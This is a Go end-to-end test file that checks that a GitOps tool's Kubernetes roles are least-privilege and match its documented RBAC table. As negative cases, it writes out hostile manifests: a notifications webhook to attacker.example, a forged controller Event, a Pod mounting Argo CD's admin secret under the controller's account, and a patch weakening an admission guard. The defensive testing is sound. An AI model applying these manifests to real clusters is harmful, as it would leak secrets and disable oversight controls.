//go:build e2e

package e2e

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-gitops/kubectl-gitops/breakglass"
	"github.com/kubectl-gitops/kubectl-gitops/test/env"
)

// TestRolesAreLeastPrivilege: the shipped roles with their policies let
// on-call create, in the audit log's namespace, only audit records and
// the head (not a missing argocd-notifications-cm), never an Event in the
// controller's name, and no Application, AppProject or ApplicationSet.
func TestRolesAreLeastPrivilege(t *testing.T) {
	core(t)
	apiOnly(t)
	environment(t)
	oncall := newUser(t, env.Oncall.Name)
	dir := t.TempDir()
	try := func(what, manifest, want string) {
		t.Helper()
		path := filepath.Join(dir, strings.ReplaceAll(what, " ", "-")+".yaml")
		if err := os.WriteFile(path, []byte(manifest), 0o600); err != nil {
			t.Fatal(err)
		}
		_, errOut, code := oncall.run("kubectl", "create", "-f", path)
		if code == 0 || !strings.Contains(errOut, want) {
			t.Errorf("on-call creating %s: exit %d, %q, want %q", what, code, errOut, want)
		}
	}
	try("a notifications ConfigMap", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: argocd-notifications-cm\n  namespace: argocd\ndata:\n  service.webhook.x: 'url: http://attacker.example'\n",
		"in the audit log namespace the break-glass, auditor and reviewer roles create only audit records and the head")
	event := func(component string) string {
		return "apiVersion: v1\nkind: Event\nmetadata:\n  generateName: forged-\n  namespace: argocd\ninvolvedObject:\n  apiVersion: argoproj.io/v1alpha1\n  kind: Application\n  name: web\n  namespace: argocd\nreason: Restored\nmessage: restored by the controller\ntype: Normal\nsource:\n  component: " + component + "\nreportingComponent: " + component + "\nreportingInstance: x\n"
	}
	try("an Event in the controller's name", event("kubectl-gitops-controller"), "only the kubectl gitops controller reports Events as kubectl-gitops-controller")
	// Argo CD's namespace is not a team's: a Pod there could run as the
	// controller's ServiceAccount with argocd-secret mounted (Argo CD
	// admin), and its workloads are not on-call's to patch.
	try("a Pod as Argo CD's controller in its namespace", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: borrowed\n  namespace: argocd\nspec:\n  serviceAccountName: argocd-application-controller\n  containers:\n  - name: c\n    image: registry.example/shell\n    volumeMounts:\n    - {name: s, mountPath: /s}\n  volumes:\n  - name: s\n    secret: {secretName: argocd-secret}\n", "forbidden")
	if _, errOut, code := oncall.run("kubectl", "-n", "argocd", "patch", "deployment", "argocd-server", "--type=merge", "-p", `{"spec":{"replicas":0}}`); code == 0 || !strings.Contains(errOut, "forbidden") {
		t.Errorf("on-call patching a Deployment in Argo CD's namespace: exit %d, %q, want forbidden", code, errOut)
	}
	for _, kind := range []string{"Application", "AppProject", "ApplicationSet"} {
		try("an "+kind, "apiVersion: argoproj.io/v1alpha1\nkind: "+kind+"\nmetadata:\n  name: forged\n  namespace: argocd\nspec: {}\n", "forbidden")
	}
	// The tool's own Events are the user's: on-call may write one, which
	// is why README says to trust the controller's alone.
	// The pause's guard: on-call reads it by name (a break-glass checks it
	// is in force), and can neither change nor remove it, nor read others.
	guard := breakglass.PauseGuardPolicy
	oncall.kubectl("get", "validatingadmissionpolicy", guard)
	oncall.kubectl("get", "validatingadmissionpolicybinding", guard)
	for _, args := range [][]string{
		{"delete", "validatingadmissionpolicybinding", guard},
		{"patch", "validatingadmissionpolicy", guard, "--type=merge", "-p", `{"spec":{"failurePolicy":"Ignore"}}`},
		{"get", "validatingadmissionpolicy", "kubectl-gitops-breakglass-applications"},
		{"get", "validatingadmissionpolicybindings"},
	} {
		if _, errOut, code := oncall.run("kubectl", args...); code == 0 || !strings.Contains(errOut, "forbidden") {
			t.Errorf("on-call: kubectl %s: exit %d, %q, want forbidden", strings.Join(args, " "), code, errOut)
		}
	}
	path := filepath.Join(dir, "own-event.yaml")
	if err := os.WriteFile(path, []byte(event("kubectl-gitops")), 0o600); err != nil {
		t.Fatal(err)
	}
	oncall.kubectl("create", "-f", path)
}

// TestEachRoleHasTheDocumentedRights: what kubectl auth can-i --list shows
// each role, in Argo CD's namespace, a team's and any other, is exactly
// docs/rbac.md's table ("Each role's rights"), either way. On-call used to
// get workload rights in every namespace, Argo CD's included: a Pod there
// may run as the controller's ServiceAccount and mount argocd-secret.
func TestEachRoleHasTheDocumentedRights(t *testing.T) {
	core(t)
	apiOnly(t)
	e := environment(t)
	documented := documentedRights(t)
	namespaces := []string{e.ArgoNamespace, env.DemoNamespace, "default"}
	users := map[string]string{"oncall": env.Oncall.Name, "reviewers": env.Reviewer.Name, "auditors": env.Auditor.Name}
	for _, ns := range namespaces {
		everyone := listRights(t, env.Nobody.Name, ns)
		for role, name := range users {
			got := listRights(t, name, ns)
			for key, verbs := range everyone {
				got[key] = slices.DeleteFunc(got[key], func(v string) bool { return slices.Contains(verbs, v) })
				if len(got[key]) == 0 {
					delete(got, key)
				}
			}
			want := documented[role+" "+ns]
			for key, verbs := range got {
				if !slices.Equal(verbs, want[key]) {
					t.Errorf("%s in %s may %v on %s; docs/rbac.md says %v", role, ns, verbs, key, want[key])
				}
			}
			for key, verbs := range want {
				if _, ok := got[key]; !ok {
					t.Errorf("%s in %s may not %v on %s, which docs/rbac.md says it may", role, ns, verbs, key)
				}
			}
		}
	}
}

// documentedRights reads docs/rbac.md's table of each role's rights, keyed
// "ROLE NAMESPACE", then "RESOURCE" or "RESOURCE/NAME", to sorted verbs;
// a row for namespace "every" holds in each namespace the test lists.
func documentedRights(t *testing.T) map[string]map[string][]string {
	t.Helper()
	body, err := os.ReadFile(filepath.Join(env.RepoRoot(), "docs", "rbac.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, table, ok := strings.Cut(string(body), "| role | namespace | resource | names | verbs | from |\n| --- | --- | --- | --- | --- | --- |\n")
	if !ok {
		t.Fatal("docs/rbac.md has no table of each role's rights")
	}
	table, _, _ = strings.Cut(table, "\n\n")
	out := map[string]map[string][]string{}
	add := func(key, resource string, verbs []string) {
		if out[key] == nil {
			out[key] = map[string][]string{}
		}
		addVerbs(out[key], resource, verbs)
	}
	for _, line := range strings.Split(table, "\n") {
		cells := strings.Split(strings.Trim(line, "|"), "|")
		if len(cells) != 6 {
			t.Fatalf("docs/rbac.md: a row of the rights table is not role | namespace | resource | names | verbs | from: %q", line)
		}
		for i := range cells {
			cells[i] = strings.TrimSpace(cells[i])
		}
		role, ns, resource, name := cells[0], cells[1], cells[2], cells[3]
		if name != "" {
			resource += "/" + name
		}
		verbs := strings.Split(strings.ReplaceAll(cells[4], " ", ""), ",")
		spaces := []string{ns}
		if ns == "every" {
			spaces = []string{testEnv.ArgoNamespace, env.DemoNamespace, "default"}
		}
		for _, s := range spaces {
			add(role+" "+s, resource, verbs)
		}
	}
	if len(out) == 0 {
		t.Fatal("docs/rbac.md's table of each role's rights is empty")
	}
	return out
}

// listRights is what kubectl auth can-i --list -n ns shows user, keyed
// "RESOURCE" or "RESOURCE/NAME" to sorted verbs; non-resource URLs are
// left out (no role here grants one).
func listRights(t *testing.T, user, ns string) map[string][]string {
	t.Helper()
	out := newUser(t, user).kubectl("auth", "can-i", "--list", "--no-headers", "-n", ns)
	row := regexp.MustCompile(`^(\S*)\s+\[(.*?)\]\s+\[(.*?)\]\s+\[(.*?)\]\s*$`)
	rights := map[string][]string{}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		m := row.FindStringSubmatch(line)
		if m == nil {
			t.Fatalf("kubectl auth can-i --list as %s: a line not understood: %q", user, line)
		}
		if m[1] == "" {
			continue
		}
		names := strings.Fields(m[3])
		if len(names) == 0 {
			names = []string{""}
		}
		for _, name := range names {
			key := m[1]
			if name != "" {
				key += "/" + name
			}
			addVerbs(rights, key, strings.Fields(m[4]))
		}
	}
	return rights
}

// addVerbs adds verbs to rights[key], kept sorted and once each.
func addVerbs(rights map[string][]string, key string, verbs []string) {
	merged := append(slices.Clone(rights[key]), verbs...)
	slices.Sort(merged)
	rights[key] = slices.Compact(merged)
}
